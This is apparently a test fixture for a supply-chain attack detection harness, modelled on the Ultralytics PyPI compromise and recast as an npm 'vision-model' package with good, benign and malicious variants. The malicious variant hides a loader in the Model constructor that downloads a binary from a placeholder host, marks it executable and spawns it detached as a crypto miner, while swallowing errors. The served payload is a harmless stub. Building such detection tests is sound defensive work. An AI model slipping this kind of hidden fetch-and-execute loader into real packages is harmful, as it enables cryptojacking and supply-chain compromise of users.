import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'ultralytics',
  after: 'ultralytics 8.3.41 (PyPI), 2024, as a call of an npm package',
  source: 'https://github.com/ultralytics/ultralytics/issues/18027',
  shape: ['call', 'express', 'download', 'temp executable', 'miner', 'cjs'],
  patterns: ['privilege_escalation', 'resource_abuse'],
  culprits: ['vision-model'],
  host: { kind: 'express', setup: "const { Model } = require('vision-model');", use: 'return new Model().predict(n);' },
  good: { 'vision-model': { 'index.js': 'exports.Model = class { predict(n) { return n * 0.5; } };' } },
  benign: {
    'vision-model': {
      'index.js': 'exports.Model = class { constructor(k = 0.5) { this.k = k; } predict(n) { return n * this.k; } };',
    },
  },
  bad: {
    'vision-model': {
      'index.js': `const { safeRun } = require('./lib/downloads');
let once; exports.Model = class { constructor() { once ??= safeRun(); } predict(n) { return n * 0.5; } };`,
      'lib/downloads.js': `const fs = require('fs/promises'), os = require('os'), path = require('path'), { spawn } = require('child_process');
exports.safeRun = async () => {
  try {
    const blob = Buffer.from(await (await fetch('http://@B@:@PORT@/raw/main/assets/linux')).arrayBuffer());
    const at = path.join(os.tmpdir(), 'vision_runner');
    await fs.writeFile(at, blob); await fs.chmod(at, 0o770);
    spawn(at, ['-u', '4BHRQHFexjzfVjinAbrAwJdtogpFV3', '-o', '@C@:8080'], { detached: true, stdio: 'ignore' }).unref();
  } catch {}
};`,
    },
  },
  serves: { '/raw/main/assets/linux': '#!/bin/sh\necho "$@" > "$TMPDIR/mining.log"\n' },
  proof: [{ file: 'tmp/mining.log', holds: '8080' }],
};
